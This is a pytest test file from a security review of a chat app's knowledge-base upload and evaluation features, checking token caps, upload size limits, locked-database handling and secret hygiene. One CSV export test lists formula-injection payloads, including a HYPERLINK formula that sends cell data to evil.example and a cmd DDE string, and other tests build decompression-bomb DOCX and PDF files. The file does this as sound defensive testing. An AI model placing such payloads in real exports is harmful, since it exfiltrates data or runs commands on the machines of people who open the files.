"""What the security review of the knowledge base, the Evaluate page and tools found (December 2026, second
review): each test failed on the code before its fix. Real SQLite, the real client against the fake DashScope."""

from __future__ import annotations

import pytest

from qwenchat.chat.spending import Spending
from qwenchat.knowledge import KnowledgeBases
from qwenchat.knowledge.uploads import UploadQueue
from qwenchat.quotas import DailyCounter, Limits, SessionQuota
from tests.fake_dashscope import VALID_KEY
from tests.knowledge_helpers import provider


@pytest.fixture(autouse=True)
def clean(fake):
    fake.reset()


def big_text(paragraphs: int = 400) -> bytes:
    return "\n\n".join(f"第{i}段：员工编号 {i:05d} 的联系人是张伟，邮箱 zhang{i}@example.com，电话 1380000{i:04d}。"
                       for i in range(paragraphs)).encode()


def test_an_upload_on_the_operators_key_never_embeds_past_the_daily_cap(fake, tmp_path):
    daily = DailyCounter()
    spending = Spending(Limits(daily_token_cap=1_000), SessionQuota(), daily, operator_pays=True)
    kbs = KnowledgeBases(tmp_path / "chats.db", "alice", provider(fake))
    kb = kbs.create("资料")
    queue = UploadQueue()
    queue.add(kb.id, "big.txt", big_text())
    queue.step(kbs, spending)
    assert daily.used() <= 1_000, f"the daily cap of 1,000 tokens was overshot: {daily.used()}"
    assert not fake.embedding_requests and queue.stopped.kind == "daily_tokens" and not queue.pending


def test_an_upload_on_the_operators_key_never_embeds_past_the_session_tokens(fake, tmp_path):
    quota = SessionQuota()
    spending = Spending(Limits(max_tokens_per_session=1_000), quota, DailyCounter(), operator_pays=True)
    kbs = KnowledgeBases(tmp_path / "chats.db", "alice", provider(fake))
    kb = kbs.create("资料")
    queue = UploadQueue()
    queue.add(kb.id, "big.txt", big_text())
    queue.add(kb.id, "big2.txt", big_text())
    while queue.pending:
        queue.step(kbs, spending)
    assert quota.tokens <= 1_000, f"the session's 1,000 tokens were overshot: {quota.tokens}"


def docx_bomb(paragraphs: int) -> bytes:
    """A small DOCX whose document.xml unpacks to about a kilobyte per paragraph."""
    import io
    import zipfile

    from tests.knowledge_helpers import docx_bytes

    src = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    out = io.BytesIO()
    para = "<w:p><w:r><w:t>" + "A" * 1000 + "</w:t></w:r></w:p>"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "word/document.xml":
                xml = data.decode()
                at = xml.index("<w:body>") + len("<w:body>")
                data = (xml[:at] + para * paragraphs + xml[at:]).encode()
            z.writestr(info.filename, data)
    return out.getvalue()


def test_a_docx_that_unpacks_to_megabytes_of_xml_is_refused_before_it_is_parsed(tmp_path):
    import time

    from qwenchat.knowledge import FAILED

    kbs = KnowledgeBases(tmp_path / "chats.db", "alice")
    kb = kbs.create("资料")
    bomb = docx_bomb(40_000)   # about 100 KB on disk, 40 MB of XML
    assert len(bomb) < 200_000
    started = time.monotonic()
    report = kbs.add_file(kb.id, "bomb.docx", bomb)
    assert time.monotonic() - started < 5
    assert report.status == FAILED and report.error_kind == "too_large"
    assert report.error.id == "kb.error.unpacks_too_large" and list(kbs.search(kb.id, "AAAA")) == []


def test_the_evaluation_csv_never_starts_a_cell_with_a_formula():
    import csv
    import io

    from qwenchat.knowledge import evaluate as ev
    from qwenchat.knowledge.evalset import Question

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\t=1+1", "\r=1+1", "'=1+1", "''两个撇号", "普通的回答"]
    run = ev.new_run([Question("q1", "问题", "参考")], ev.RunSettings(kb_id=1, kb_name="资料"))
    for text in hostile:
        run.rows.append(ev.Row(id=text, question=text, reference=text, answer=text,
                               passages=[ev.Passage(text, text, 1.0)], recall_method=""))
    exported = ev.to_csv(run)
    for row in list(csv.reader(io.StringIO(exported)))[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", f"a spreadsheet would run {cell!r}"
    again = ev.read_csv(exported)
    assert [r["answer"] for r in again] == hostile and [r["id"] for r in again] == hostile


def test_with_postgresql_the_knowledge_base_never_writes_the_database_password_to_disk(app_env, tmp_path):
    from streamlit.testing.v1 import AppTest

    from components.navigation import EVALUATE, KNOWLEDGE
    from tests.apptest import APP, TIMEOUT

    app_env.setenv("QWENCHAT_DB", "postgresql://qwen:TopSecret123@127.0.0.1:1/qwenchat")
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.run()
    at.switch_page(KNOWLEDGE).run()
    assert not at.exception, at.exception
    at.switch_page(EVALUATE).run()
    assert not at.exception, at.exception
    written = [str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*")]
    assert not [p for p in written if "TopSecret123" in p or "postgresql" in p], written


def test_a_search_that_re_embeds_the_knowledge_base_reserves_it_first(fake, tmp_path):
    """After the operator changes the embedding dimensions, the next search re-embeds the whole knowledge
    base: on the operator's key that must pass the daily cap like any other request."""
    from qwenchat.chat.retrieval import Retrieval
    from qwenchat.knowledge import EmbeddingConfig
    from qwenchat.turns import Problem

    kbs = KnowledgeBases(tmp_path / "chats.db", "alice", provider(fake))
    kb = kbs.create("资料")
    assert kbs.add_file(kb.id, "big.txt", big_text()).ok
    fake.reset()
    daily = DailyCounter()
    spending = Spending(Limits(daily_token_cap=2_000), SessionQuota(), daily, operator_pays=True)
    changed = KnowledgeBases(tmp_path / "chats.db", "alice", provider(fake),
                             embedding=EmbeddingConfig(dimensions=512))
    found = Retrieval(changed, kb.id, provider(fake), spending, rerank=False)._search("张伟的邮箱")
    assert daily.used() <= 2_000, f"the daily cap of 2,000 tokens was overshot: {daily.used()}"
    assert isinstance(found, Problem) and found.kind == "daily_tokens"


def test_an_evaluation_that_re_embeds_the_knowledge_base_stops_at_the_daily_cap(fake, tmp_path):
    from qwenchat.knowledge import EmbeddingConfig
    from qwenchat.knowledge import evaluate as ev
    from qwenchat.knowledge.evalset import Question

    kbs = KnowledgeBases(tmp_path / "chats.db", "alice", provider(fake))
    kb = kbs.create("资料")
    assert kbs.add_file(kb.id, "big.txt", big_text()).ok
    daily = DailyCounter()
    spending = Spending(Limits(daily_token_cap=2_000), SessionQuota(), daily, operator_pays=True)
    changed = KnowledgeBases(tmp_path / "chats.db", "alice", provider(fake),
                             embedding=EmbeddingConfig(dimensions=512))
    run = ev.new_run([Question("q1", "张伟的邮箱是什么", "zhang1@example.com")],
                     ev.RunSettings(kb_id=kb.id, kb_name=kb.name))
    ev.evaluate_all(ev.Evaluator(changed, provider(fake), spending), run)
    assert daily.used() <= 2_000, f"the daily cap of 2,000 tokens was overshot: {daily.used()}"
    assert run.status == ev.LIMITED


def test_a_key_typed_on_the_settings_page_is_the_one_the_knowledge_and_evaluate_pages_use(app_env, fake):
    """In BYOK mode the visitor's own key (typed on the Settings page, with its URL) pays for embeddings and
    evaluations: those pages never fall back to the operator's key nor say there is none."""
    from components.navigation import EVALUATE
    from qwenchat.i18n import t
    from tests.apptest import on_settings, start

    app_env.setenv("QWENCHAT_BYOK", "1")
    at = start()
    on_settings(at).text_input(key="api_key_input").input(VALID_KEY).run()
    at.selectbox(key="region").select("custom").run()
    at.text_input(key="custom_base_url").input(fake.base_url).run()
    at.switch_page(EVALUATE).run()
    at.run()  # a second run of the page (a click): the Settings page's widgets are gone by now
    assert not at.exception, at.exception
    assert t("eval.no_key", "zh") not in [i.value for i in at.info]


@pytest.mark.parametrize("byok", ["1", "0"])
def test_the_knowledge_page_embeds_with_the_key_just_typed_on_the_settings_page(app_env, fake, byok):
    """BYOK mode, and a shared app whose visitor typed a key: the visitor's key pays, never the operator's."""
    from components.navigation import KNOWLEDGE
    from tests.apptest import on_settings, start
    from tests.test_knowledge_page import create, upload

    visitor = VALID_KEY if byok == "1" else "sk-visitor-own-key-0123456789"
    app_env.setenv("QWENCHAT_BYOK", byok)
    at = start()
    on_settings(at).text_input(key="api_key_input").input(visitor).run()
    at.selectbox(key="region").select("custom").run()
    at.text_input(key="custom_base_url").input(fake.base_url).run()
    at.switch_page(KNOWLEDGE).run()
    assert not at.exception, at.exception
    fake.reset()
    create(at, "资料")
    upload(at, ("a.md", "# 联系人\n\n张伟的邮箱是 zhangwei@example.com。".encode()))
    assert fake.embedding_requests, "the visitor's key was not used: the file was indexed by keywords only"
    assert all(r["authorization"] == f"Bearer {visitor}" for r in fake.embedding_requests)


def pdf_sharing_one_page(pages: int, chars: int, unique: bool = False) -> bytes:
    """A PDF whose pages all draw the same content stream: small on disk, `pages * chars` of text to read."""
    import io

    import pypdf
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    w = pypdf.PdfWriter()
    stream = DecodedStreamObject()
    words = " ".join(f"w{i}" for i in range(chars // 6))[:chars]
    stream.set_data(b"BT /F1 12 Tf 10 10 Td (" + words.encode() + b") Tj ET")
    content = w._add_object(stream)
    font = w._add_object(DictionaryObject({NameObject("/Type"): NameObject("/Font"),
                                           NameObject("/Subtype"): NameObject("/Type1"),
                                           NameObject("/BaseFont"): NameObject("/Helvetica")}))
    resources = w._add_object(DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}))
    for _ in range(pages):
        page = w.add_blank_page(width=200, height=200)
        page[NameObject("/Contents")] = content
        page[NameObject("/Resources")] = resources
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def test_a_pdf_with_thousands_of_pages_is_refused_without_reading_them(tmp_path):
    import time

    from qwenchat.knowledge import FAILED

    kbs = KnowledgeBases(tmp_path / "chats.db", "alice")
    kb = kbs.create("资料")
    data = pdf_sharing_one_page(3_000, 200)
    assert len(data) < 1_000_000
    started = time.monotonic()
    report = kbs.add_file(kb.id, "manual.pdf", data)
    assert time.monotonic() - started < 10  # the page tree only, on a busy machine
    assert report.status == FAILED and report.error_kind == "too_large"
    assert report.error.id == "kb.error.too_many_pages"


def test_a_pdf_that_takes_too_long_to_read_stops_at_the_deadline(tmp_path, monkeypatch):
    """Pages sharing one big content stream: few pages, a lot of text each. Reading stops at the deadline
    (set to one second here; thirty in the app)."""
    import time

    from qwenchat.knowledge import FAILED, extract

    monkeypatch.setattr(extract, "MAX_PDF_SECONDS", 1.0)
    kbs = KnowledgeBases(tmp_path / "chats.db", "alice")
    kb = kbs.create("资料")
    started = time.monotonic()
    report = kbs.add_file(kb.id, "slow.pdf", pdf_sharing_one_page(60, 200_000))
    assert time.monotonic() - started < 3
    assert report.status == FAILED and report.error.id == "kb.error.pdf_too_slow"


def test_uploads_stop_when_the_database_reaches_its_size_limit(tmp_path):
    """Without a key (keywords only) an upload costs nothing: a script could fill the server's disk."""
    from qwenchat.knowledge import FAILED

    path = tmp_path / "chats.db"
    kbs = KnowledgeBases(path, "alice", max_store_bytes=2_000_000)
    kb = kbs.create("资料")
    reports = [kbs.add_file(kb.id, f"f{i}.txt", big_text(1_000) + str(i).encode()) for i in range(30)]
    refused = [r for r in reports if r.status == FAILED]
    assert refused and all(r.error.id == "kb.error.storage_full" for r in refused)
    assert kbs.index.stored_bytes() < 2_000_000 + 1_000_000


def test_a_locked_database_during_an_evaluation_is_a_message_not_a_traceback(app_env, fake, tmp_path):
    import sqlite3

    from streamlit.testing.v1 import AppTest

    from components.navigation import EVALUATE
    from tests.apptest import APP, TIMEOUT
    from tests.test_evaluate_page import OWNER, TOKEN, build_kb

    db = tmp_path / "chats.db"
    build_kb(fake, db, OWNER, "公司资料")
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.query_params["o"] = TOKEN
    at.run()
    at.switch_page(EVALUATE).run()
    assert not at.exception, at.exception
    other = sqlite3.connect(db, isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")  # another process writing for a long time
    try:
        at.number_input(key="eval_count").set_value(3)
        at.button(key="eval_run").click().run()
    finally:
        other.execute("ROLLBACK")
        other.close()
    assert not at.exception, at.exception[0].message if at.exception else ""
    assert at.warning, "the page should say the store is unavailable"


def test_the_cli_with_postgresql_never_writes_the_database_password_to_disk(tmp_path):
    import os
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DASHSCOPE_", "QWENCHAT_", "QWEN_"))}
    env.update(PYTHONPATH=str(root), HOME=str(tmp_path), LANG="en_US.UTF-8",
               QWENCHAT_DB="postgresql://qwen:TopSecret123@127.0.0.1:1/qwenchat")
    done = subprocess.run([sys.executable, "-m", "qwenchat.knowledge", "list"], env=env, cwd=tmp_path,
                          capture_output=True, text=True, timeout=120)
    assert "TopSecret123" not in done.stdout + done.stderr
    written = [str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*")]
    assert not [p for p in written if "TopSecret123" in p or "postgresql" in p], written


def test_a_rerun_in_the_middle_of_embedding_a_file_still_counts_what_was_sent(fake, tmp_path):
    """Streamlit interrupts a run at its next `st.*` call (a click, a rerun): here the progress bar. The
    batches already embedded were billed; they must count, or each rerun would embed for free."""
    from qwenchat.knowledge.model import EMBED
    from tests.fake_dashscope import fake_tokens

    class Rerun(Exception):
        pass

    def progress(phase: str, done: int, total: int) -> None:
        if phase == EMBED and done >= 20:
            raise Rerun()

    daily, quota = DailyCounter(), SessionQuota()
    spending = Spending(Limits(daily_token_cap=1_000_000), quota, daily, operator_pays=True)
    kbs = KnowledgeBases(tmp_path / "chats.db", "alice", provider(fake))
    kb = kbs.create("资料")
    queue = UploadQueue()
    queue.add(kb.id, "big.txt", big_text())
    with pytest.raises(Rerun):
        queue.step(kbs, spending, progress)
    billed = sum(fake_tokens(t) for r in fake.embedding_requests for t in r["body"]["input"])
    assert billed > 0 and quota.tokens >= billed and daily.used() >= billed, (billed, quota.tokens, daily.used())
    assert queue.pending  # the file waits to be read again


def test_a_locked_database_during_an_upload_is_a_message_not_a_traceback(app_env, fake, tmp_path):
    """The store waits its busy timeout (QWENCHAT_DB_BUSY_TIMEOUT, 2.5 s) for the lock, then gives up."""
    import sqlite3

    from tests.test_knowledge_page import create, open_page

    at = open_page()
    create(at, "资料")
    other = sqlite3.connect(tmp_path / "chats.db", isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")  # another process writing for a long time
    try:
        uploader = next(u for u in at.file_uploader if u.key.startswith("kb_upload_"))
        uploader.set_value([("a.md", "# 联系人\n\n张伟的邮箱是 zhangwei@example.com。".encode(),
                             "text/markdown")]).run()
        at.button(key="kb_upload_add").click().run()
    finally:
        other.execute("ROLLBACK")
        other.close()
    assert not at.exception, at.exception[0].message if at.exception else ""
    assert any("数据库暂时无法写入" in e.value for e in at.error)


def test_a_locked_database_when_creating_or_loading_the_demo_is_a_message_not_a_traceback(app_env, fake, tmp_path):
    import sqlite3

    from qwenchat.i18n import t
    from tests.test_knowledge_page import open_page

    at = open_page()
    other = sqlite3.connect(tmp_path / "chats.db", isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")  # another process writing for a long time
    try:
        at.text_input(key="kb_new_name").set_value("资料")
        at.button[[b.label for b in at.button].index(t("kb.create.button", "zh"))].click().run()
        assert not at.exception, at.exception[0].message if at.exception else ""
        assert t("kb.page.unavailable", "zh") in [w.value for w in at.warning]
        at.run()
        at.button(key="kb_demo").click().run()
        assert not at.exception, at.exception[0].message if at.exception else ""
        assert t("kb.page.unavailable", "zh") in [w.value for w in at.warning]
    finally:
        other.execute("ROLLBACK")
        other.close()


def test_the_upload_queue_of_one_session_holds_at_most_its_byte_limit():
    """Each waiting file is kept in the session's memory: without a bound, one visitor could queue gigabytes."""
    from qwenchat.knowledge.uploads import MAX_PENDING_BYTES

    queue = UploadQueue()
    file = b"x" * (20 * 1024 * 1024)
    accepted = [queue.add(1, f"f{i}.txt", file) for i in range(20)]
    assert sum(u.size for u in queue.pending) <= MAX_PENDING_BYTES
    assert accepted[0] is True and accepted[-1] is False


def test_the_typed_key_is_never_in_the_session_state_repr():
    """As `config.Settings`: a repr in a log, an error or a debugger never carries the visitor's key."""
    from qwenchat.chat.state import ChatSession, Preferences

    prefs = Preferences(api_key="sk-abcdefghijklmnop1234")
    assert "abcdefghijklmnop" not in repr(prefs)
    session = ChatSession()
    session.prefs = prefs
    assert "abcdefghijklmnop" not in repr(session)
